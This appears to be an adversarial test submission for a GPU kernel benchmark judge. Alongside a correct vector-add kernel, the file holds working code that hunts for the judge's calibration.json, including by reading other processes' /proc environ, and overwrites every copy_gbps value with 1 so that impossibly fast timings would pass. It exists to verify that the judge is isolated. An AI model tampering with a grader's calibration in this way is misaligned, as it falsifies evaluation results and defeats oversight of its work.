// expect: accepted
// expect-output-lacks: CALIBRATION-WRITTEN
// Attacker's intent: rewrite the calibration. The judge rejects a time below the GPU's physical floor, which it
// computes from the measured ceilings in calibration.json; against the old judge a submission set copy_gbps to 1,
// and the next honest submission was called suspicious_timing. On its first call this looks for the calibration
// where this run's judge keeps it (JUDGE_CALIBRATION, else calibration.json beside the leaderboard: JUDGE_DB's
// folder or the XDG default under HOME, in its own environment and its judge ancestors' /proc/<pid>/environ;
// calibration*.json in the judge's folders under /tmp), sets every "copy_gbps" in it to 1 (a file written beside
// it and renamed over it, else rewritten in place) and prints `CALIBRATION-WRITTEN <path>` for each success. Then it
// adds correctly.
// Harmless when only the judge writes its calibration: nothing printed, and the test's own check finds the entry's
// private copy of the calibration byte for byte as it was. It is correct, so `accepted`.
#include <cuda_runtime.h>

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "judge_paths.cuh"

namespace {

// The text with the number after every "copy_gbps": replaced by 1.
std::string with_copy_gbps_1(const std::string& text) {
  std::string out;
  size_t at = 0;
  for (size_t key; (key = text.find("\"copy_gbps\"", at)) != std::string::npos;) {
    size_t colon = text.find(':', key);
    if (colon == std::string::npos) break;
    size_t start = text.find_first_not_of(" \t\r\n", colon + 1);
    if (start == std::string::npos) break;
    size_t end = text.find_first_of(",}\r\n", start);
    if (end == std::string::npos) end = text.size();
    out += text.substr(at, start - at) + "1";
    at = end;
  }
  return out + text.substr(at);
}

bool write_whole(const std::string& path, const std::string& text, int flags) {
  int fd = open(path.c_str(), flags | O_CLOEXEC, 0644);
  if (fd < 0) return false;
  bool ok = write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size());
  close(fd);
  return ok;
}

void rewrite_calibrations() {
  Places places = find_places();
  int found = 0;
  for (const auto& path : places.calibrations) {
    if (!is_file(path)) continue;
    const std::string text = slurp(path);
    if (text.find("\"copy_gbps\"") == std::string::npos) continue;
    ++found;
    const std::string forged = with_copy_gbps_1(text);
    const std::string tmp = path + ".forged";
    bool done = false;
    if (write_whole(tmp, forged, O_WRONLY | O_CREAT | O_TRUNC)) {
      done = rename(tmp.c_str(), path.c_str()) == 0;
      if (!done) unlink(tmp.c_str());
    }
    if (!done) done = write_whole(path, forged, O_WRONLY | O_TRUNC);
    if (done) say("CALIBRATION-WRITTEN " + path);
  }
  std::fprintf(stderr, "calibration: %zu places guessed, %d calibrations found\n", places.calibrations.size(),
               found);
  std::fflush(stderr);
}

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  static bool rewritten = false;
  if (!rewritten) {
    rewritten = true;
    rewrite_calibrations();
  }
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
